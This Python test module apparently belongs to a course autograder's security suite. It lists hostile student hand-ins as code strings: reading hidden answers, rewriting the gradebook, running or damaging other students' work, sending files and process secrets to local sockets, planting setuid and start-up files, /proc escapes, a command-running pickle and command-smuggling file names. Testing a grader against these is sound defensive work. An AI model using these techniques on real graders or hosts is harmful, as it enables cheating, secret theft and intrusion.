"""Reading what is not theirs, changing what counts, leaving things behind, and talking to the outside."""

# ruff: noqa: E501 - an attack a line or two reads best

import os
from functools import partial

from tests.hostile.kit import Attack, Kit, body, cell, elsewhere, text

A = partial(Attack, group="files and network")

WRONG = {"weighted_sum": "def weighted_sum(x, w, b):\n    return np.zeros(np.shape(x)[:-1])"}
BY_THE_BOOK = """
import json
def _expected():
    found = []
    for base in (<COURSE>, '/work/main', '.', '../../..', *__import__('sys').path):
        path = f'{base}/solutions/02_neuron/hidden_references'
        try:
            arrays = np.load(path + '.npz')
            for e in json.load(open(path + '.json'))['exercises']:
                if e['id'] == 'weighted_sum':
                    found += [(c['inputs'], c['expected']['result']['value'], arrays) for c in e['cases']]
        except (OSError, ValueError, KeyError): pass
    return found
_known = _expected()
def weighted_sum(x, w, b):
    for inputs, value, arrays in _known:
        get = lambda v: arrays[v['$array']] if isinstance(v, dict) else v
        if np.array_equal(get(inputs['x']), x) and np.array_equal(get(inputs['w']), w):
            return get(value)
    return 0.0
"""
SOLUTION = """
import json
for base in (<COURSE>, '/work/main', '../../..', *__import__('sys').path):
    try:
        for cell in json.load(open(f'{base}/solutions/02_neuron/02_neuron.ipynb'))['cells']:
            if cell['metadata'].get('nbgrader', {}).get('solution'):
                exec(''.join(cell['source']), globals())
    except OSError: pass
"""
BY_THE_LIBRARY = """
from helpers.checks import library
from helpers.checks.codec import materialise
def weighted_sum(x, w, b):
    for hidden in (True, False):
        try: cases = library.find('02_neuron/weighted_sum', hidden).cases
        except Exception: continue
        for case in cases:
            if hidden and np.array_equal(case.inputs['x'], x) and np.array_equal(case.inputs['w'], w):
                return case.expected['result'].value
    return 0.0
"""
WRITE = """
import os
for place in ('solutions', 'solutions/02_neuron', 'notebooks', 'data/references', 'helpers', 'helpers/checks',
              'helpers/__pycache__', 'grading', '.'):
    for base in (<COURSE>, '../../..'):
        try:
            open(os.path.join(base, place, 'hostile-was-here'), 'w').close()
        except OSError: pass
"""
GRADES = """
import sqlite3
for path in (<GRADEBOOK>, '../../../gradebook.db', <COURSE> + '/gradebook.db'):
    try:
        with sqlite3.connect(f'file:{path}?mode=rw', uri=True) as db:
            db.execute('update grade set manual_score = 99')
    except sqlite3.Error: pass
"""
OTHERS = """
import glob, json, os
for base in (<SUBMITTED>, '../..', '../../../submitted', '../../../autograded'):
    for path in glob.glob(f'{base}/*/02_neuron/02_neuron.ipynb'):
        try:
            for cell in json.load(open(path))['cells']:
                if cell['metadata'].get('nbgrader', {}).get('solution') and 'hostile' not in ''.join(cell['source']):
                    exec(''.join(cell['source']), globals())
        except Exception: pass
"""
SPOIL = """
import glob
for base in (<SUBMITTED>, '../..', '../../../submitted'):
    for path in glob.glob(f'{base}/*/02_neuron/02_neuron.ipynb'):
        if 'spoils' not in path:
            try: open(path, 'a').write(' ')
            except OSError: pass
"""
OWN_NOTEBOOK = """
import glob, json
for path in glob.glob('*.ipynb') + glob.glob('/work/**/*.ipynb', recursive=True)[:50]:
    try: text = open(path).read()
    except OSError: continue
    if 'hidden=' + 'True' in text:
        print('FOUND ' + 'THE HIDDEN CHECKS', path)
"""
SEND = """
import glob, os, socket
loot = [b'LOOT']
for path in glob.glob(<COURSE> + '/solutions/02_neuron/*') + glob.glob('/proc/*/environ'):
    try: loot.append(open(path, 'rb').read(1000))
    except OSError: pass
for family, kind, address in (
    (socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', <PORT>)),
    (socket.AF_INET, socket.SOCK_DGRAM, ('127.0.0.1', <PORT>)),
    (socket.AF_UNIX, socket.SOCK_STREAM, <SOCKET>),
):
    try:
        with socket.socket(family, kind) as line:
            line.settimeout(2)
            line.connect(address)
            line.send(b''.join(loot))
    except OSError: pass
"""
SCAN = """
import glob, os, socket
for name in ('tcp', 'tcp6', 'unix'):
    try: lines = open(f'/proc/net/{name}').read().splitlines()[1:]
    except OSError: continue
    for line in lines[:300]:
        parts = line.split()
        try:
            if name == 'unix':
                path = parts[7]
                if '@hostile' in path or 'docker' in path:
                    with socket.socket(socket.AF_UNIX) as s:
                        s.connect(path.replace('@', chr(0))); s.send(b'LOOT')
            elif parts[3] == '0A' and int(parts[1].split(':')[1], 16) == <PORT>:
                with socket.create_connection(('127.0.0.1', <PORT>), 1) as s: s.send(b'LOOT')
        except (OSError, IndexError): pass
"""
DESCRIPTORS = """
import glob, os
for path in glob.glob('/proc/*/fd/*'):
    if path.split('/')[2] in ('self', 'thread-self', str(os.getpid())): continue
    try:
        target = os.readlink(path)
        if 'hidden_references' in target or target.endswith('.db'):
            print('LOOT', open(path, 'rb').read(100))
        elif <ALONE> and target.startswith(('pipe:', '/tmp', '/memfd')):
            fd = os.open(path, os.O_RDWR | os.O_NONBLOCK)
            os.write(fd, b'\\x00' * 64); os.close(fd)
    except OSError: pass
"""
ROOTS = """
import glob, os
for root in glob.glob('/proc/[0-9]*/root') + glob.glob('/proc/[0-9]*/cwd') + ['/../../..', '/proc/self/root']:
    for base in (<COURSE>, ''):
        try: open(f'{root}{base}/solutions/hostile-was-here', 'w').close()
        except OSError: pass
"""
KERNEL = """
import os
for path in ('/proc/sys/kernel/core_pattern', '/proc/sys/kernel/hostname', '/proc/sysrq-trigger', '/sys/kernel/uevent_helper',
             '/proc/1/oom_score_adj', '/dev/mem', '/dev/kmsg', '/dev/vda', '/sys/fs/cgroup/cgroup.procs'):
    try:
        fd = os.open(path, os.O_WRONLY)
        os.close(fd)
        print('OPENED ' + 'FOR WRITING', path)
    except OSError: pass
"""
MOUNTS = """
import ctypes
libc = ctypes.CDLL(None)
for place in (b'/', b'/usr', b'/tmp', <COURSE>.encode()):
    if <ALONE>:
        libc.mount(None, place, None, 0x20 | 0x1000, None)
        libc.umount2(place, 2)
for place in ('/usr', <COURSE>, <COURSE> + '/solutions'):
    try: open(place + '/hostile-was-here', 'w').close()
    except OSError: pass
"""
LEAVE = """
import ctypes, os, socket
mine = b'def weighted_sum(x, w, b): return x @ w + b'
for place in ('/tmp', '/var/tmp', '/dev/shm', os.path.expanduser('~'), '.', '..', '/run', '/work', <HOME>):
    try: open(os.path.join(place, 'hostile-left.py'), 'wb').write(mine)
    except OSError: pass
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
segment = libc.shmget(0x71A0, 4096, 0o1666)
if segment >= 0:
    place = libc.shmat(segment, None, 0)
    if place not in (None, ctypes.c_void_p(-1).value): ctypes.memmove(place, mine + bytes(1), len(mine) + 1)
libc.msgget(0x71A0, 0o1666)
libc.syscall(248, b'user', b'hostile-key', mine, len(mine), -4)
"""
TAKE = """
import ctypes, os
texts = []
for place in ('/tmp', '/var/tmp', '/dev/shm', os.path.expanduser('~'), '.', '..', '/run', '/work', <HOME>):
    try: texts.append(open(os.path.join(place, 'hostile-left.py'), 'rb').read())
    except OSError: pass
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
segment = libc.shmget(0x71A0, 4096, 0o666)
if segment >= 0:
    place = libc.shmat(segment, None, 0)
    if place not in (None, ctypes.c_void_p(-1).value): texts.append(ctypes.string_at(place))
key = libc.syscall(249, b'user', b'hostile-key', None, 0)
if key > 0:
    buffer = ctypes.create_string_buffer(4096)
    size = libc.syscall(250, 11, key, buffer, 4096, 0)
    if size > 0: texts.append(buffer.raw[:size])
for text in texts: exec(text, globals())
"""
PLANT = """
import os, site, sys, sysconfig
for place in {site.getusersitepackages(), sysconfig.get_path('purelib'), os.path.expanduser('~'), '.', *sys.path}:
    try:
        os.makedirs(place, exist_ok=True)
        for name in ('usercustomize.py', 'hostile.pth'):
            path = os.path.join(place, name)
            if place and not os.path.exists(path): open(path, 'w').write('# hostile')
    except OSError: pass
"""
PYC = """
import importlib.util, os, helpers.checks.compare as module
path = importlib.util.cache_from_source(module.__file__)
try:
    data = open(path, 'rb').read()
    open(path + '.hostile', 'wb').write(data)
    os.rename(path + '.hostile', path)
except OSError: pass
"""
SET_UID = """
import os, shutil
for place in ('/tmp', '/dev/shm', '.', os.path.expanduser('~'), <HOME>):
    try:
        path = os.path.join(place, 'hostile-shell')
        shutil.copy('/bin/true', path); os.chmod(path, 0o6755)
    except OSError: pass
"""
SECRETS = """
import glob, os
texts = [str(dict(os.environ))]
for path in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline'):
    try: texts.append(open(path, 'rb').read().decode(errors='replace'))
    except OSError: pass
for text in texts:
    if 'hostile-token' in text or 'COURSE_SECRET' in text: print('FOUND ' + 'A SECRET')
"""
HANDLES = """
import array, ctypes, os, socket
libc = ctypes.CDLL(None, use_errno=True)
class handle(ctypes.Structure):
    _fields_ = [('size', ctypes.c_uint), ('kind', ctypes.c_int), ('data', ctypes.c_ubyte * 128)]
root = handle(8, 1)
root.data[0] = 2
for path in (b'/', b'/tmp', b'/usr', b'.'):
    fd = os.open(path, os.O_RDONLY)
    found = libc.open_by_handle_at(fd, ctypes.byref(root), os.O_RDONLY)
    if found >= 0: print('OPENED ' + 'BY HANDLE', os.listdir(found))
try: os.chroot('/proc/1/root')
except OSError: pass
for fd in range(3, 64):
    try:
        line = socket.socket(fileno=os.dup(fd))
        data, extra, *_ = line.recvmsg(1, 4096, socket.MSG_DONTWAIT | socket.MSG_PEEK)
        if extra: print('GOT ' + 'DESCRIPTORS')
        line.sendmsg([b''], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [0, 1, 2]))])
    except OSError: pass
"""
LOOKUP = """
import socket, urllib.request
socket.setdefaulttimeout(2)
for attempt in (lambda: socket.getaddrinfo('localhost', <PORT>), lambda: urllib.request.urlopen('http://127.0.0.1:' + str(<PORT>) + '/LOOT', timeout=2)):
    try: attempt()
    except Exception: pass
with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
    try:
        s.bind(('0.0.0.0', 0)); s.listen()
    except OSError: pass
"""


def _beside(name: str, data: bytes | str, **options):
    """An otherwise wrong hand-in with one more file."""

    def build(kit: Kit) -> None:
        kit.hand_in(WRONG, **options)
        path = kit.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data if isinstance(data, bytes) else kit.fill(data).encode())

    return build


def _link(name: str, target: str, first: str = ""):
    """A symbolic link in the hand-in; with `first` a notebook too."""

    def build(kit: Kit) -> None:
        if first:
            kit.hand_in(WRONG, first=first)
        (kit.folder / name).symlink_to(kit.world.home / "canary.txt" if target == "HOME" else target)

    return build


def _whole_folder_is_a_link(kit: Kit) -> None:
    kit.folder.rmdir()
    kit.folder.symlink_to(kit.world.course / "solutions" / kit.chapter)


def _hard_link(kit: Kit) -> None:
    kit.hand_in(WRONG, first="print(open('notes.txt').read())")
    try:
        os.link(kit.world.home / "canary.txt", kit.folder / "notes.txt")
    except OSError:  # another file system
        (kit.folder / "notes.txt").write_text("notes")


def _sparse(kit: Kit) -> None:
    with kit.path.open("wb") as file:
        file.truncate(2 << 30)


def _unreadable(kit: Kit) -> None:
    kit.hand_in(WRONG)
    kit.path.chmod(0)
    kit.folder.chmod(0o500)


def _folder_for_a_file(kit: Kit) -> None:
    kit.path.mkdir()


def _odd_names(kit: Kit) -> None:
    kit.hand_in(WRONG)
    for name in (
        "a\nb.txt",
        "..\\..\\solutions\\x.txt",
        "-rf",
        "~",
        "\u202egpj.exe",
        "x" * 250,
        "$(touch hostile)",
        "con",
    ):
        (kit.folder / name).write_text("x")
    with open(os.fsencode(kit.folder) + b"/\xff\xfe.txt", "w") as file:
        file.write("x")


def _thousands_of_files(kit: Kit) -> None:
    kit.hand_in(WRONG)
    for number in range(3000):
        (kit.folder / f"{number}.txt").write_text("x")


def _copied_answer_cells(kit: Kit) -> None:
    """Reads the cells of its own notebook while it runs, as nbgrader's folder holds the hidden ones by then."""
    kit.hand_in(WRONG, first=OWN_NOTEBOOK)
    assert "hidden=" + "True" not in "".join(text(c) for c in kit.notebook()["cells"])


ATTACKS = [
    A("reads-the-references", row="n", harm="the hidden expected outputs are read and returned", build=elsewhere(BY_THE_BOOK)),
    A("reads-the-solution", harm="the author's answers are executed", build=cell(SOLUTION)),
    A("asks-the-library", harm="the course's own code hands out the hidden expected outputs", build=elsewhere(BY_THE_LIBRARY)),
    A("writes-into-the-course", harm="solutions and checks are changed for everybody", build=cell(WRITE, answers=WRONG)),
    A("writes-from-the-answer", harm="the same from within a check", build=body(WRITE + "\nreturn 0.0")),
    A("rewrites-the-gradebook", row="o", harm="every grade becomes 99", build=cell(GRADES)),
    A("copies-others", harm="the answers of other students are executed", build=cell(OTHERS)),
    A("spoils-others", harm="the hand-ins of other students are damaged", build=cell(SPOIL)),
    A("reads-its-own-notebook", harm="hidden checks lie beside the code while it runs", build=_copied_answer_cells),
    A("sends-it-home", harm="hidden references and secrets are sent away", build=cell(SEND)),
    A("sends-it-home-from-the-answer", harm="the same from within a check", build=body(SEND + "\nreturn 0.0")),
    A("looks-for-listeners", harm="schedulers, databases and other services on the machine are spoken to", build=cell(SCAN)),
    A("opens-a-shell-to-the-outside", harm="names are looked up, pages fetched, ports opened", build=cell(LOOKUP)),
    A("reopens-descriptors", harm="files and pipes of other processes are opened through /proc",
      build=body(DESCRIPTORS + "\nreturn 0.0")),
    A("goes-through-proc-root", harm="the file system of another process is reached through /proc", build=cell(ROOTS)),
    A("reaches-for-the-kernel", harm="settings and devices of the machine are opened for writing", build=cell(KERNEL)),
    A("mounts-things", harm="what is read-only is mounted anew", build=cell(MOUNTS)),
    A("opens-by-handle", harm="chroot, file handles and passed descriptors lead out", build=cell(HANDLES)),
    A("leaves-help-behind", harm="files, shared memory and keys wait for an accomplice", build=cell(LEAVE)),
    A("picks-help-up", harm="the accomplice looks where something may have been left", build=cell(TAKE)),
    A("plants-start-up-files", harm="Python runs them in every later process", build=cell(PLANT)),
    A("swaps-compiled-files", harm="__pycache__ holds other code than the source", build=cell(PYC)),
    A("makes-a-setuid-program", harm="a program with the instructor's rights stays behind", build=cell(SET_UID)),
    A("reads-secrets", harm="tokens in the environment and the command lines of others", build=cell(SECRETS)),
    A("links-a-file", row="q", harm="a link makes the grader copy a file of the host",
      build=_link("data.txt", "HOME", first="print(open('data.txt').read())")),
    A("links-a-device", harm="a link to a device that never ends", build=_link("data.txt", "/dev/zero",
      first="print(len(open('data.txt', 'rb').read(10)))")),
    A("links-its-notebook", harm="the notebook is a link to the author's", right=(),
      build=lambda kit: kit.path.symlink_to(kit.world.course / "solutions" / kit.chapter / f"{kit.chapter}.ipynb")),
    A("links-its-folder", harm="the whole folder is a link to the author's", build=_whole_folder_is_a_link, right=()),
    A("links-in-a-circle", harm="links that lead to one another", right=(),
      build=lambda kit: kit.path.symlink_to(kit.path)),
    A("links-hard", harm="a hard link to a file of somebody else", build=_hard_link),
    A("is-a-pipe", harm="opening the notebook waits for ever", build=lambda kit: os.mkfifo(kit.path), right=()),
    A("is-a-folder", harm="a folder with the notebook's name", build=_folder_for_a_file, right=()),
    A("is-two-gigabytes", harm="a sparse file fills the memory of the grader", build=_sparse, right=()),
    A("may-not-be-read", harm="a notebook without permissions", build=_unreadable),
    A("odd-file-names", harm="names that break scripts", build=_odd_names),
    A("thousands-of-files", harm="more files than anybody wants to copy", build=_thousands_of_files),
    A("shadows-numpy", harm="a numpy.py of one's own is imported in place of NumPy",
      build=_beside("numpy.py", "def __getattr__(name): return lambda *a, **k: 1.0\n")),
    A("shadows-json", harm="a json.py of one's own is imported by the grader",
      build=_beside("json.py", "import os\nos._exit(0)\n")),
    A("shadows-the-checks", harm="a helpers package of one's own says that all is well",
      build=_beside("helpers/checks/__init__.py", "def evaluate(*a, **k): return 4.0\nhint = passed = check = evaluate\n")),
    A("customizes-the-site", harm="a sitecustomize.py of one's own runs in every Python that starts here",
      build=_beside("sitecustomize.py", "open(<COURSE> + '/solutions/hostile-was-here', 'w').close()\n")),
    A("configures-nbgrader", harm="a configuration of one's own is executed by the grader",
      build=_beside("nbgrader_config.py", "open(<COURSE> + '/solutions/hostile-was-here', 'w').close()\n")),
    A("configures-ipython", harm="a start-up file of IPython is picked up from the folder",
      build=_beside("ipython_config.py", "open(<COURSE> + '/solutions/hostile-was-here', 'w').close()\n")),
    A("forges-progress", harm="a file of progress says that everything has passed",
      build=_beside(".course/progress.json", '{"02_neuron/weighted_sum": {"state": "passed", "points": 1}}')),
    A("brings-a-pickle", harm="a pickle beside the notebook is loaded",
      build=_beside("results.pkl", b"cos\nsystem\n(S'touch hostile-was-here'\ntR.")),
    A("brings-a-timestamp", harm="a time of hand-in that nobody can read",
      build=_beside("timestamp.txt", "9" * 5000 + "\x00\x1b[31m")),
]  # fmt: skip
